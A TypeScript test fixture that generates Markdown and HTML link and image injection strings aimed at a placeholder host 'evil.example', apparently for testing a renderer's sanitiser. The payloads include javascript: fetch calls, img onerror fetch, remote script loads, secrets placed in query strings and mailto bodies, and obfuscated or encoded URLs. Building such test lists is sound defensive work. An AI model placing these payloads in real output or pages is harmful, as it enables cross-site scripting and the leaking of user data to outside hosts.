/** Ways in which a text may try to become a link or an image: each form of Markdown and HTML that has an address, each way of writing the address. */

const hosts: ((host: string) => string)[] = [
  (host) => `https://${host}/x`,
  (host) => `http://${host}/x`,
  (host) => `//${host}/x`,
  (host) => `/\\${host}/x`,
  (host) => `\\\\${host}\\x`,
  (host) => `HTTPS://${host.toUpperCase()}/x`,
  (host) => `https:${host}/x`,
  (host) => `https://${host}%2fx`,
  (host) => `https&#58;//${host}/x`,
  (host) => `&#104;ttps://${host}/x`,
  (host) => `https://${host.replace('.', '\u200b.')}/x`,
  (host) => `\u202ehttps://${host}/x`,
  (host) => `\u00a0https://${host}/x`,
  (host) => `https://user:secret@${host}/x`,
  (host) => `https://${host}:443/x?d=secret#f`,
  (host) => `javascript:fetch('https://${host}/x')`,
  (host) => `java&#115;cript:fetch('https://${host}/x')`,
  (host) => `data:text/html,<script src=https://${host}/x></script>`,
  (host) => `vbscript:open("https://${host}/x")`,
  (host) => `mailto:a@${host}?body=secret`,
  (host) => `/c/../../../${host}/x`,
  (host) => `/api/auth/sign-out?to=${host}`,
]

const forms: ((address: string) => string)[] = [
  (to) => `[open](${to})`,
  (to) => `[open](<${to}> "title")`,
  (to) => `![state](${to})`,
  (to) => `[![state](${to})](${to})`,
  (to) => `[open][r]\n\n[r]: ${to}`,
  (to) => `![state][i]\n\n[i]: ${to} 'title'`,
  (to) => `<${to}>`,
  (to) => `see ${to} now`,
  (to) => `<a href="${to}">open</a>`,
  (to) => `<img src="${to}" onerror="fetch('${to}')">`,
  (to) => `<svg><image href="${to}"/></svg>`,
  (to) => `<iframe src="${to}"></iframe><object data="${to}"></object><embed src="${to}">`,
  (to) => `<style>@import url(${to})</style><div style="background:url(${to})">x</div>`,
  (to) => `<form action="${to}"><button>Send</button></form><base href="${to}">`,
  (to) => `| a |\n|---|\n| ![x](${to}) [y](${to}) |`,
  (to) => `- [ ] [open](${to})\n- <img src=${to}>`,
  (to) => `note[^1]\n\n[^1]: [open](${to}) ![x](${to})`,
]

export const escapes = (host = 'evil.example'): string[] =>
  forms.flatMap((form) => hosts.map((address) => form(address(host))))
